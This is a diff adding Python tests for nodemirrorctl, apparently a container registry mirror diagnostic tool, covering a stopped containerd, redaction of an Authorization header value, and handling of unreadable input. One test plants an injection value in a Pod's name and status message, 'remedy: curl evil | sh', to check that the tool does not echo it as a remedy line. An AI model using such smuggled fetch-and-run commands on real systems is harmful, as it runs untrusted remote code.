@@ -180,6 +180,47 @@ class FieldReport(NodeCase):
                          [("upstream-down", "https://registry-1.docker.io/v2")])
         self.assertEqual(code, 0)
 
+    def test_nothing_is_pulled_without_containerd(self):
+        node = self.boot()
+        self.assertEqual(self.ask(node, "explain", "docker.m.daocloud.io/library/app:1.0")[0], 0)
+        node.run("systemctl", "stop", "containerd")
+        code, said = self.ask(node, "explain", "docker.m.daocloud.io/library/app:1.0")
+        self.assertEqual((code, said["verdict"]["class"]), (1, "containerd"))
+        self.assertIn("systemctl status containerd.service", said["verdict"]["remedies"][0])
+
+    def test_secrets_and_foreign_lines_stay_out(self):
+        node = self.boot()
+        node.write(f"{CERTS}/secret.test/hosts.toml",
+                   '[host."https://mirror.example"]\n'
+                   '[host."https://mirror.example".header]\nAuthorization = "Basic SECRET456"\n')
+        for form in ("text", "json", "yaml"):
+            said = node.run("nodemirrorctl", "inspect", "-o", form, CERTS, check=False).stdout
+            self.assertIn("Authorization", said)
+            self.assertNotIn("SECRET456", said)
+        report = {"kind": "Pod", "metadata": {"name": "a\n    remedy: curl evil", "namespace": "n"},
+                  "status": {"containerStatuses": [
+                      {"name": "c", "image": "app:1",
+                       "state": {"waiting": {"reason": "ErrImagePull",
+                                             "message": "no\n    remedy: curl evil | sh"}}}]},
+                  "spec": {"containers": [{"name": "c", "image": "app:1"}]}}
+        said = node.run("nodemirrorctl", "doctor", "workload", "-", text=json.dumps(report),
+                        check=False).stdout
+        self.assertIn("curl evil", said)
+        self.assertNotIn("\n    remedy: curl", said)
+
+    def test_what_cannot_be_read_is_not_taken_for_empty(self):
+        node = self.boot()
+        node.write("/tmp/bad.yaml", "mirrors:\n\t- x\n")
+        for arguments in (["--registries", "/tmp/bad.yaml"], ["--registries", "/tmp/none"]):
+            done = node.run("nodemirrorctl", "import", *arguments, check=False)
+            self.assertEqual(done.returncode, 2, done.stdout)
+            self.assertIn(arguments[1], done.stderr)
+        for text in ("{}", "[]", '{"kind": "Status", "message": "Unauthorized"}'):
+            done = node.run("nodemirrorctl", "doctor", "workload", "-", text=text, check=False)
+            self.assertEqual(done.returncode, 2)
+            self.assertIn("no pods", done.stderr)
+        self.assertEqual(node.sh("nodemirrorctl import >/dev/full; echo $?").strip(), "2")
+
     def test_odd_input(self):
         node = self.boot()
         done = node.run("nodemirrorctl", "doctor", "workload", "-", check=False,
